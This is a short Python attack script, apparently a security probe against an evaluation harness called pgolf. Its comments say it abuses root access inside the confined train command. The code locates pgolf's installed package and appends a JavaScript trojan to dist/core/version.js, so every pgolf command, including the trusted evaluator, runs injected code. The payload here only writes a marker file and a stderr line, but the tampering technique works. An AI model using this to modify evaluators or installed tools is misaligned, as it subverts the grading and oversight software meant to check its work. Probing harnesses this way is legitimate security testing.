# Attack: the confined train_command runs as (mapped) root over the host's real filesystem, so it can
# modify pgolf's own installation. It appends a trojan to dist/core/version.js: from then on every
# pgolf command (train, eval, submit, check, the trusted evaluator itself) runs the entry's code.
import os
root = None
for p in os.environ.get("PATH", "").split(":"):
    if p.endswith("/node_modules/.bin") and os.path.exists(os.path.join(p, "..", "..", "dist", "core", "version.js")):
        root = os.path.realpath(os.path.join(p, "..", "..")); break
if root:
    target = os.path.join(root, "dist", "core", "version.js")
    trojan = ('\n;import("node:fs").then((f) => { try { f.appendFileSync("/tmp/pgatk_trojan_ran", '
              '`${new Date().toISOString()} pid ${process.pid}: ${process.argv.slice(1).join(" ")}\\n`); } catch {} '
              'process.stderr.write("[pgatk trojan] running inside pgolf\\n"); }).catch(() => {});\n')
    if "pgatk_trojan_ran" not in open(target).read():
        open(target, "a").write(trojan)
    print(f"trojan appended to {target}", flush=True)
else:
    print("pgolf install not found", flush=True)
open(os.environ["PGOLF_ARTIFACT"], "wb").write(b"\x00")
